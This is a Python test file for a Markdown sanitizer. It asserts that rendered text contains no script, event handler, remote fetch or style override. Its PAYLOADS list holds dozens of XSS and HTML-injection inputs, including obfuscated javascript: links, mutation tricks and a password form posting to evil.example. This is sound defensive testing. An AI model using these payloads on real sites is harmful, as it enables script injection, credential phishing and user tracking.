"""Text of others: whatever it holds, nothing of it runs, is fetched, or restyles the page; code is shown as code."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import hypothesis.strategies as st
import pytest
from hypothesis import given

from kompetanse.content.neutral import neutral
from kompetanse.render import html

_HARMLESS = frozenset(
    [
        "p",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "a",
        "img",
        "ul",
        "ol",
        "li",
        "em",
        "strong",
        "code",
        "pre",
        "blockquote",
        "table",
        "thead",
        "tbody",
        "tr",
        "th",
        "td",
        "hr",
        "br",
        "sup",
        "sub",
        "del",
        "ins",
        "dl",
        "dt",
        "dd",
        "kbd",
        "mark",
        "div",
        "span",
        "b",
        "i",
        "s",
        "u",
        "q",
        "small",
        "cite",
        "var",
        "samp",
        "wbr",
        "abbr",
        "section",
        "quiz",
    ]  # `quiz` is our own mark
)
_ATTRIBUTES = {"href", "src", "alt", "id", "class", "title", "start", "style"}


class Finder(HTMLParser):
    """Gathers what a browser would run, fetch or follow into something that runs."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _HARMLESS:
            self.found.append(tag)
        for name, value in attrs:
            address = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
            runs = re.match(r"(?!https?:|mailto:|tel:|id:)[a-z][a-z0-9+.-]*:", address) and name in {
                "href",
                "src",
            }
            fetched = name == "src" and re.match(r"[a-z]+:|[/\\]{2}", address)
            restyled = name == "style" and not re.fullmatch(
                r"text-align:\s*(left|right|center);?", value or ""
            )
            if name not in _ATTRIBUTES or runs or fetched or restyled:
                self.found.append(f"{tag} {name}={value}")


def active(markdown: str) -> list[str]:
    finder = Finder()
    finder.feed(html(markdown))
    return finder.found


PAYLOADS = {
    "script": "<script>window.X=1</script>",
    "handler": '<img src=x onerror="window.X=1">',
    "handler without quotes": "<b onmouseover=window.X=1>b</b>",
    "link that runs": "[klikk](javascript:window.X=1)",
    "in angles": "[klikk](<javascript:window.X=1>)",
    "with entities": "[klikk](&#106;avascript:window.X=1)",
    "with entities twice": "[klikk](&amp;#106;avascript:window.X=1)",
    "in mixed case": "[a](JaVaScRiPt:window.X=1)",
    "data": "[a](data:text/html,<script>1</script>)",
    "defined": "[a][b]\n\n[b]: javascript:window.X=1",
    "defined on the next row": "[a][b]\n\n[b]:\n  javascript:window.X=1",
    "automatic": "<javascript:window.X=1>",
    "handler in a list": '[klikk](#){: onclick="window.X=1" }',
    "handler in a list with a brace": '[klikk](#){: title="}" onclick="window.X=1" }',
    "handler of a paragraph": 'Tekst her\n{: onmouseover="window.X=1" }',
    "handler of a heading": '## Tittel { onclick="window.X=1" }',
    "handler behind a quotation mark": "![a](b.png){alt='x\\' onclick=window.X=1 '}",
    "handler beside the looks": '![a](b.png){alt="x" onclick="window.X=1"}',
    "style": 'Tekst\n{: style="position:fixed;inset:0;background:url(//evil.example/t)" }',
    "frame": '<iframe srcdoc="<script>parent.X=1</script>"></iframe>',
    "svg": '<svg onload="window.X=1"></svg>',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "form": '<form action="https://evil.example"><input name="passord" type="password"></form>',
    "style element": "<style>body{display:none}</style>",
    "details": '<details open ontoggle="window.X=1">x</details>',
    "details with Markdown": '<div markdown="1" onclick="window.X=1">\n\n<script>1</script>\n\n</div>',
    "title of code": '``` python title="<img src=x onerror=window.X=1>"\nx\n```',
    "attributes of code": '``` { .python onclick="window.X=1" }\nx\n```',
    "footnote": "a[^1]\n\n[^1]: <img src=x onerror=window.X=1>",
    "abbreviation": 'HTML\n\n*[HTML]: x" onmouseover="window.X=1',
    "admonition": '!!! note "<img src=x onerror=window.X=1>"\n    x',
    "picture from elsewhere": "![](https://evil.example/pixel.png)",
    "picture from elsewhere, defined": "![a][p]\n\n[p]: https://evil.example/pixel.png",
    "picture from elsewhere, short": "![p]\n\n[p]: //evil.example/pixel.png",
    "picture without scheme": "![a](//evil.example/pixel.png)",
    "picture with backslashes": r"![a](/\evil.example/pixel.png)",
    "comment": "<!--><img src=x onerror=window.X=1>-->",
    "comment that ends early": "<!-- a --!><img src=x onerror=window.X=1> -->",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=window.X=1>"></noscript>',
    "code that is none": "<div>\n\n```\n<script>1</script>\n```\n\n</div>",
    "code hidden by an attribute": '<b title="`"> `<script>1</script>` `</b>',
    "runs of backticks that do not match": "<````<```<script>window.X=1</script>```",
    "a backtick in the row above": "a ` b\n`<script>window.X=1</script>` c",
    "a backtick in the cell beside": "| a | b |\n|---|---|\n| ` | ` `<script>window.X=1</script>` |",
    "a backtick in the item above": "- a ` b\n- ` `<script>window.X=1</script>`",
    "a fence that is never closed": "````\n```\n<script>window.X=1</script>\n```\n",
    "spliced": "<<div>script>window.X=1<<div>/script>",
    "in a quiz": "<quiz>\n<img src=x onerror=1>\n\n- [x] <script>1</script>\n</quiz>",
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=1> | [x](vbscript:1) |",
    "object": '<object data="x"></object><embed src="x"><math><mtext></mtext></math>',
    "link element": '<link rel="stylesheet" href="//evil.example/x.css">',
}


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS)
def test_nothing_of_it_runs_or_is_fetched(payload: str) -> None:
    body = f"## Før\n\n{payload}\n\nEtter.\n"

    made = neutral(body)

    assert active(made) == [], html(made)
    assert made.count("\n") == body.count("\n")


def test_a_template_is_shown_as_text() -> None:
    assert (
        neutral('{{ config.site_dir }} {% include "x" %}')
        == '&#123;&#123; config.site_dir }} &#123;% include "x" %}'
    )


def test_a_place_of_the_theme_is_not_taken() -> None:
    assert "id=" not in html(neutral("Tekst\n{: #__search }"))


@pytest.mark.parametrize(
    "body",
    [
        "## Tittel {#anker}\n\n[lenke](side.md#del) og <https://example.no/?a=1> og <post@example.no>\n",
        '![Kart](bilder/kart.png)\n\n![Kart](bilder/kart.png){alt="Et kart" width="40%"}\n\n![Kart][k]\n\n[k]: bilder/kart.png\n',
        "H<sub>2</sub>O og <kbd>Ctrl</kbd><br>ny rad\n",
        "```html\n<script>alert(1)</script>\n{{ x }}\n```\n\nog `<img onerror=1>` her.\n",
        "> ```\n> <b>\n> ```\n",
        "<!-- en merknad -->\n\n1 < 2 og a <= b\n",
        '--8<-- "id#del"\n\n<quiz>\n<!-- id: q1 -->\nHva?\n\n- [x] Ja\n- [ ] Nei\n</quiz>\n',
        "Ingenting å gjøre.\n",
        "[tel](tel:112) [id](id:brann) [](id:brann)\n",
    ],
)
def test_ordinary_text_and_code_stay_as_they_are(body: str) -> None:
    assert neutral(body) == body


def test_the_text_of_a_picture_stays_and_all_else_of_a_list_goes() -> None:
    picture = "![](a.svg){.x alt='Klikk på \"Kopier\" i arkivets\\' rad' width=40% style='position:fixed' onclick=1}"

    assert neutral(picture) == '![](a.svg){alt="Klikk på ”Kopier” i arkivets\' rad" width="40%"}'
    assert neutral("Tekst\n{: .callout onclick=1 }") == "Tekst\n"


def test_elements_that_only_arrange_go_and_their_words_stay() -> None:
    assert neutral('<div class="x">Ord</div> <span style="x">til</span>') == "Ord til"


_PIECES = st.sampled_from(
    [
        *"<>{}[]()!`~\"'&#:/\\=-*_ \n\t>",
        "a", "x1", "\n\n", "    ", "```", "~~~", "``", "<!--", "-->", "--!>", "]]>", "<![CDATA[", "<?php", "?>",
        "<script>", "</script>", "<div>", "</div>", '<div markdown="1">', "<b>", "<img src=x onerror=1>", "onclick=", "javascript:",
        "&#106;avascript:", "data:", "https://evil.example/", "//evil.example", "](", "![", "[a]: ", "{: ", " }", "!!! note ", "\\<",
        "<quiz>", "</quiz>", "*[a]: ", "[^1]: ", "|", "|---|", "title=\"", "<a href=",
    ]
)  # fmt: skip


@given(st.lists(_PIECES, max_size=30).map("".join))
def test_no_mixture_of_signs_runs(body: str) -> None:
    made = neutral(body)

    assert active(made) == [], (body, made)
    assert made.count("\n") == body.count("\n")
